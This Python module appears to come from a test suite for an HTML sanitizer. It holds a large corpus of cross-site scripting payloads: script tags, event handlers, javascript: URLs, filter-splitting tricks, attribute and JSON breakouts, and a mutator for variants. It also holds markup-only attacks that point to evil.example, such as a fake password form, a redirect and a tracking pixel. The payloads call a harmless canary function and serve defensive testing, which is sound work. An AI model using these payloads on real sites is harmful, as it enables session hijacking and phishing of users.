"""What attackers write where a page repeats it, and seeded variations of it.

Each payload calls ``canary``, which does nothing but tell that it was called. All of them run in
the model browser and in Chromium when a page repeats them as they are; the tests hold that.
"""

from __future__ import annotations

import random
import re
from dataclasses import dataclass
from typing import Any

from labs.arguments import whole


@dataclass(frozen=True, slots=True)
class Payload:
    """One text of an attacker.

    Attributes:
        text: The text.
        group: What kind it is.
    """

    text: str
    group: str


_CALL = "canary('k')"

_IN_TEXT: dict[str, tuple[str, ...]] = {
    "script element": (
        "<script>canary('k')</script>",
        "<script >canary('k')</script >",
        "<script/x>canary('k')</script>",
        "<script\n>canary('k')</script>",
        "<script type=module>canary('k')</script>",
        "<script type=''>canary('k')</script>",
        "<script async>canary('k')</script>",
        "<script>/* a note */canary('k')</script>",
        "<script>var a = '<b>';canary('k')</script>",
        '<script>"use strict";canary("k")</script>',
        "</p></article><script>canary('k')</script>",
        "--><script>canary('k')</script>",
        "<svg><script>canary('k')</script></svg>",
        "<svg><script>canary(&#39;k&#39;)</script></svg>",
        "<table><tr><td><script>canary('k')</script></table>",
        "<!--><script>canary('k')</script>-->",
        "<!-- --!><script>canary('k')</script>",
    ),
    "handler": (
        "<img src=x onerror=canary('k')>",
        '<img src="x" onerror="canary(\'k\')">',
        "<img/src='x'/onerror=canary('k')>",
        "<img src=x onerror = canary('k')>",
        "<img\tsrc=x\nonerror=canary('k')>",
        "<img src=x\x0conerror=canary('k')>",
        '<img src="x"onerror="canary(\'k\')">',
        "<img src=x onerror=&#99;anary('k')>",
        '<img src=x onerror="&#x63;anary(&quot;k&quot;)">',
        "<image src=x onerror=canary('k')>",
        "<img src=x: onerror=canary('k')//",
        "<svg onload=canary('k')>",
        "<svg/onload=canary('k')//>",
        "<svg><g onload=canary('k')></g><svg onload=canary('k')></svg></svg>",
        "<svg><animate onbegin=canary('k') attributeName=x dur=1s></svg>",
        "<details open ontoggle=canary('k')>more</details>",
        "<video src=x onerror=canary('k')></video>",
        "<audio src=x onerror=canary('k')></audio>",
        "<video><source src=x onerror=canary('k')></video>",
        "<iframe onload=canary('k')></iframe>",
        "<style onload=canary('k')>p { color: red }</style>",
        "<input type=image src=x onerror=canary('k')>",
        "<b>hello</b><img src=x onerror=canary('k')>",
        '<style><p title="</style><img src=x onerror=canary(1)>">',
        "<svg><style><img src=x onerror=canary('k')></style></svg>",
    ),
    "click": (
        "<button onclick=canary('k')>more</button>",
        "<p onclick=canary('k')>read on</p>",
        '<a href="#" onclick="canary(\'k\')">more</a>',
        "<a href=\"#x\"onclick=canary('k')>more</a>",
        "<form onsubmit=canary('k')><button>send</button></form>",
        "<p onmouseover=canary('k')>point here</p>",
        "<x onclick=canary('k')>more</x>",
    ),
    "address": (
        "<a href=\"javascript:canary('k')\">website</a>",
        "<a href='javascript:canary(`k`)'>website</a>",
        "<a href=\"JaVaScRiPt:canary('k')\">website</a>",
        "<a href=\"java&#10;script:canary('k')\">website</a>",
        "<a href=\"java&Tab;script:canary('k')\">website</a>",
        "<a href=\" &#1; javascript:canary('k')\">website</a>",
        "<a href=\"&#106;avascript:canary('k')\">website</a>",
        "<a href=\"javascript&colon;canary('k')\">website</a>",
        "<a href=\"javascript://kvittra.example/%0acanary('k')\">website</a>",
        "<a title='>' href=javascript:canary('k')>website</a>",
        "<form action=\"javascript:canary('k')\"><button>send</button></form>",
        "<form><button formaction=\"javascript:canary('k')\">send</button></form>",
        "<iframe src=\"javascript:parent.canary('k')\"></iframe>",
        '<iframe srcdoc="<script>parent.canary(1)</script>"></iframe>',
        '<iframe srcdoc="&lt;img src=x onerror=parent.canary(1)&gt;"></iframe>',
    ),
}

IN_TEXT = tuple(Payload(text, group) for group, texts in _IN_TEXT.items() for text in texts)
"""For where text stands between tags."""

SPLIT_TAGS = (
    "<scr<script>ipt>canary('k')</scr</script>ipt>",
    "<SCR<script>IPT>canary('k')</SCR</script>IPT>",
    "<scr<script></script>ipt>canary('k')</script>",
    "<im<script>g src=x onerror=canary('k')>",
    "<img src=x ononerrorerror=canary('k')>",
    "<img src=x oonerrornerror=canary('k')>",
    "<a href=\"javasjavascript:cript:canary('k')\">website</a>",
    "<img src=x on onerror=1error=canary('k')>",
)
"""Harmless as they are: they become whole when a filter takes something out of their middle."""

MARKUP = (
    '<form action="https://evil.example/">Your session has ended.'
    "<input name=password><button>Sign in</button></form>",
    '<a href="https://evil.example/" style="position:fixed;inset:0">.</a>',
    "<style>main { display: none }</style>",
    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<iframe src="https://evil.example/"></iframe>',
    '<img src="https://evil.example/seen?by=maja">',
    '<link rel=stylesheet href="https://evil.example/own.css">',
    '<p style="position:fixed;inset:0;background:white">Kvittra is closed.</p>',
    '<div id="after">Pay to SE00 6666 instead.</div>',
    "<!-- ",
    "<textarea>",
    "<plaintext>",
    "<p title='",
    "</main></div></body>",
)
"""No script at all, and yet the page says or does something else."""

ADDRESSES = (
    "javascript:canary('k')",
    "JAVASCRIPT:canary('k')",
    "JaVaScRiPt:canary('k')",
    "  javascript:canary('k')",
    "\tjavascript:canary('k')",
    "java\nscript:canary('k')",
    "java\tscript:canary('k')",
    "javascript\n:canary('k')",
    "\x01javascript:canary('k')",
    "javascript:/*https://*/canary('k')",
    "javascript://bergsbageri.example/%0acanary('k')",
    "javascript:canary('k')//https://bergsbageri.example",
    "javascript:void canary('k')",
    "javascript:%63anary('k')",
    "javascript&colon;canary('k')",
    "&#106;avascript:canary('k')",
    "&#x6A;avascript&#58;canary('k')",
    "java&NewLine;script:canary('k')",
)
"""For the address of a link: they run when it is clicked, if the address is passed on unescaped."""

QUOTES = (
    'https://bergsbageri.example/" onmouseover="canary(1)',
    'https://bergsbageri.example/"onclick="canary(1)',
    'https://bergsbageri.example/"><img src=x onerror=canary(1)>',
    'https://bergsbageri.example/"><script>canary(1)</script>',
    'https://bergsbageri.example/"/><svg/onload=canary(1)>',
    'https://bergsbageri.example/" href="javascript:canary(1)" onclick="canary(1)',
)
"""Addresses that end the attribute they stand in."""

IN_JSON = (
    "</script><script>canary('k')</script>",
    "</SCRIPT><script>canary('k')</script>",
    "</script ><img src=x onerror=canary('k')>",
    "</script/><svg onload=canary('k')>",
    "</script/x><img src=x onerror=canary('k')>",
    "</ScRiPt><iframe onload=canary('k')></iframe>",
    "x</script><details open ontoggle=canary('k')>",
    "<script></script><img src=x onerror=canary('k')>",
    "<!--</script><script>canary('k')</script>",
    "</script><!--><script>canary('k')</script>-->",
    "</scr</script>ipt><img src=x onerror=canary('k')>",
    "</script><a href=javascript:canary('k')>website</a>",
)
"""For data in a script element: they end the element, inside a valid JSON text."""

IN_STRINGS = (
    '";canary(1);//',
    '"-canary(1)-"',
    '"+canary(1)+"',
    '\\";canary(1);//',
    '"};canary(1);//',
    '",x:canary(1),y:"',
    "'-canary(1)-'",
    "');canary(1);//",
    "${canary(1)}",
    '"\ncanary(1)//',
    '"]);canary(1);//',
    "\u2028canary(1)//",
)
"""For data in a script element: they end the string, if it is put together by hand."""

SWALLOWING = ("<!--<script>", "<!-- <SCRIPT ", "<!--<script>\\", "</script", "<!--")
"""They let the script swallow the rest of the page, or run no code at all; the data must arrive."""

HONEST_TEXTS = (
    "Patrick O'Brien",
    "a < b and b > c",
    'Ek says "after Christmas"',
    "Lars & Liv Haug",
    "It has snowed. — O.",
    "Tulips 🌷 and 🎂",
    "تم الإرسال بالبريد المسجل",
    "O&#39;Brien in last week's letter",
    "AT&T &amp; &lt;b&gt; as text",
    "100 % Ull, 50 % off",
    "Rör <3 & Åsa -> Ås",
    "if x<y then javascript: is a word",
    "A tag is written <b>, and <script> too",
    "Call onerror() or onclick = 1",
    "\\back\\slash and `ticks` ${now}",
    "Maja BERG, Gävle",
)
"""What honest people write; it must be shown letter by letter."""

HONEST_ADDRESSES = (
    "https://bergsbageri.example",
    "https://obrien.example/rör?q=O'Brien&page=2#kontakt",
    "http://vikensvarv.example/båtar/",
    "https://floraflora.example/?a=1&b=2&copy=3",
    "HTTPS://Saunaset.Example/",
    "https://korklang.example:8443/noter;v=1?x=javascript:",
)
"""Websites of honest people; a click has to lead there."""

HONEST_DATA: tuple[Any, ...] = (
    {"currency": "SEK", "buyers": [{"name": "O'Leary & Daughters", "amount": 89_000}]},
    {"note": "a < b, b > c", "mark": '"quoted"', "path": "C:\\böcker"},
    ["🌷", "زعفران", "Þ", "\u2028line\u2029", "</b>", ""],
    {"paid": True, "due": None, "rates": [0.25, -3, 12], "<b>": "a key"},
    "Kör & Klang",
    [],
)
"""Data that a page's script has to receive unchanged."""

HONEST_PROFILES = (
    "<p>Bakes from <b>four in the morning</b>, does the books at noon.</p>",
    "<p>Treasurer of a choir:</p><ul><li>12 sopranos</li><li>too few <i>tenors</i></li></ul>",
    '<p>Boats at <a href="https://vikensvarv.example/?a=1&amp;b=2">the yard</a>.</p>',
    "<blockquote>Sauna first,<br>questions <em>after</em>.</blockquote>",
    "<p>Pipes, drains &amp; apostrophes: O'Brien, a &lt; b.</p>",
    "<p>زعفران <strong>وهيل</strong> وكمّون 🌷</p>",
    "<ol><li>one</li><li>two</li></ol>plain words",
)
"""Profiles with the formatting that is allowed."""


def mutated(payload: str, rng: random.Random) -> str:
    """The payload written another way, so that it still does the same.

    Names of tags and attributes change case; spaces inside tags become other white space; text is
    put around it.
    """

    def tag(match: re.Match[str]) -> str:
        opening, name, rest = match.groups()
        name = "".join(rng.choice((c.lower(), c.upper())) for c in name)
        space = rng.choice((" ", "\n", "\t", "\f", "  "))
        # Spaces inside quoted values belong to the value.
        if '"' not in rest and "'" not in rest.replace(_CALL, ""):
            rest = rest.replace(" ", space)
        rest = re.sub(
            r"(?<=[\s/])on[a-z]+(?=\s*=)",
            lambda found: "".join(rng.choice((c.lower(), c.upper())) for c in found[0]),
            rest,
        )
        return f"{opening}{name}{rest}"

    foreign = "<svg" in payload.lower()  # there, the case of names can matter
    text = payload if foreign else re.sub(r"(</?)([A-Za-z]+)([^<>]*)", tag, payload)
    before = rng.choice(("", "Hello ", "O'Brien ", "x < y ", "🌷 ", "50 % "))
    return before + text + rng.choice(("", " ", "\nMaja", " 🌷"))


def variations(payloads: tuple[str, ...], rng: random.Random, count: int) -> list[str]:
    """Payloads followed by ``count`` mutations of them.

    Args:
        payloads: The texts to begin with.
        rng: Where the variety comes from.
        count: How many mutations, 0 to 1,000.
    """
    whole("count", count, low=0, high=1_000)
    return [*payloads, *(mutated(rng.choice(payloads), rng) for _ in range(count))]


def texts(group: str = "") -> tuple[str, ...]:
    """The texts of :data:`IN_TEXT`, of one group or of all."""
    return tuple(item.text for item in IN_TEXT if group in ("", item.group))
